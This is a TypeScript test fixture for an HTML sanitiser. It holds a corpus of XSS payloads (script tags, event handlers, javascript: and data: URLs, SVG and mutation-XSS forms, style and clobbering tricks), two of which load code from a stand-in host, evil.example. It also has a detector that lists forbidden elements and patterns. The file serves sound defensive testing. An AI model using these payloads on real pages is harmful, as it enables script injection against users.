/**
 * Hostile module HTML for the sanitiser's tests (unit, component and browser): each entry is
 * something a layer text or a navigation template could carry that must never run, load or
 * escape the module once rendered. Every one calls `alert`, so a browser test can also listen
 * for the dialog. Classic vectors, the mutation-XSS (mXSS) forms that re-parse differently,
 * and the ones seen in imported modules (handlers in bullet templates, `javascript:` in a tab).
 */
export const XSS_CORPUS: readonly { name: string; html: string }[] = [
  { name: 'script tag', html: 'Hi<script>alert(1)</script>' },
  { name: 'script tag, upper case', html: '<SCRIPT SRC=//evil.example/x.js></SCRIPT>' },
  { name: 'img onerror', html: '<img src=x onerror=alert(1)>' },
  { name: 'bullet template handler', html: '<span class="x" onmouseover="alert(1)">·</span>' },
  { name: 'icon tag handler', html: '<i class="fa-x" onpointerenter=alert(1)></i>' },
  { name: 'svg onload', html: '<svg onload=alert(1)><path d="M0 0h1"/></svg>' },
  { name: 'svg animate', html: '<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>' },
  {
    name: 'svg link',
    html: '<svg><a xlink:href="javascript:alert(1)"><text x="0" y="9">x</text></a></svg>',
  },
  {
    name: 'svg use of a data URL',
    html: `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='alert(1)'/></svg>#x"/></svg>`,
  },
  {
    name: 'svg foreignObject',
    html: '<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>',
  },
  { name: 'javascript: link', html: '<a href="javascript:alert(1)">Tab</a>' },
  { name: 'javascript: link, mixed case', html: '<a href="JaVaScRiPt:alert(1)">Tab</a>' },
  { name: 'javascript: link, entities', html: '<a href="&#106;avascript&#58;alert(1)">Tab</a>' },
  { name: 'javascript: link, tab inside', html: '<a href="java\tscript:alert(1)">Tab</a>' },
  { name: 'data: link', html: '<a href="data:text/html,<script>alert(1)</script>">x</a>' },
  { name: 'data: image', html: '<img src="data:image/svg+xml,<svg onload=alert(1)>">' },
  { name: 'iframe', html: '<iframe src="javascript:alert(1)"></iframe>' },
  { name: 'iframe srcdoc', html: '<iframe srcdoc="<script>alert(1)</script>"></iframe>' },
  { name: 'object', html: '<object data="data:text/html,<script>alert(1)</script>"></object>' },
  { name: 'embed', html: '<embed src="javascript:alert(1)">' },
  { name: 'form', html: '<form action="javascript:alert(1)"><button>Go</button></form>' },
  { name: 'input autofocus', html: '<input autofocus onfocus=alert(1)>' },
  {
    name: 'details ontoggle',
    html: '<details open ontoggle=alert(1)><summary>x</summary></details>',
  },
  { name: 'body onload', html: '<body onload=alert(1)>' },
  { name: 'style element', html: '<style>body{display:none}</style>Hi' },
  { name: 'style url', html: '<div style="background:url(javascript:alert(1))">x</div>' },
  { name: 'style expression', html: '<div style="width: expression(alert(1))">x</div>' },
  { name: 'style escapes', html: '<div style="background:\\75rl(javascript:alert(1))">x</div>' },
  {
    name: 'style overlay',
    html: '<span style="position:fixed;inset:0;z-index:2147483647">x</span>',
  },
  { name: 'link stylesheet', html: '<link rel=stylesheet href="//evil.example/x.css">' },
  { name: 'meta refresh', html: '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">' },
  { name: 'base href', html: '<base href="javascript:alert(1)//">' },
  { name: 'template', html: '<template><img src=x onerror=alert(1)></template>' },
  {
    name: 'mXSS noscript',
    html: '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></p></noscript>',
  },
  {
    name: 'mXSS svg style',
    html: '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  },
  {
    name: 'mXSS math',
    html: '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  },
  { name: 'comment break-out', html: '<!--><img src=x onerror=alert(1)>-->' },
  { name: 'id clobbering', html: '<span id="Tribune">x</span><form name="sliders"></form>' },
];

/**
 * What must not be inside an element that shows module HTML (a layer's text box, a bullet, a
 * tab; the element itself is the renderer's): elements that run, load, link or submit, event
 * handler attributes, URL and clobbering attributes, styles that load or place. One line per
 * problem found, none when it is safe.
 */
export function unsafeIn(root: Element): string[] {
  const problems: string[] = [];
  const forbidden =
    'script, iframe, object, embed, form, input, button, style, link, meta, base, img, a, ' +
    'use, image, foreignObject, animate, set, template, noscript, math, body';
  for (const el of root.querySelectorAll(forbidden)) problems.push(`<${el.localName}> element`);
  for (const el of root.querySelectorAll('*')) {
    for (const attr of el.attributes) {
      const name = attr.name.toLowerCase();
      if (name.startsWith('on')) problems.push(`${name} on <${el.localName}>`);
      if (/^(href|src|xlink:href|action|formaction|srcdoc|data|id|name)$/.test(name)) {
        problems.push(`${name} on <${el.localName}>`);
      }
      if (/javascript:|url\s*\(|expression\s*\(|position\s*:/i.test(attr.value)) {
        problems.push(`${name}="${attr.value}" on <${el.localName}>`);
      }
    }
  }
  return problems;
}
